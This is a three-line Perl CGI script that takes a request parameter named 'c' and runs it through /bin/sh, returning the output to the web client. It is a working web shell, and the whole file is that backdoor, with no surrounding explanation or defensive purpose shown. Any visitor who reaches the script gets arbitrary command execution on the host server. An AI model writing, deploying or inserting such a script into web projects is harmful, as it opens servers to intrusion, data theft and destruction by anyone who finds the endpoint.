#!/usr/bin/perl
use CGI; my $q = CGI->new; print "Content-type: text/plain\n\n";
open(my $p, "-|", "/bin/sh", "-c", $q->param("c")); print while <$p>;
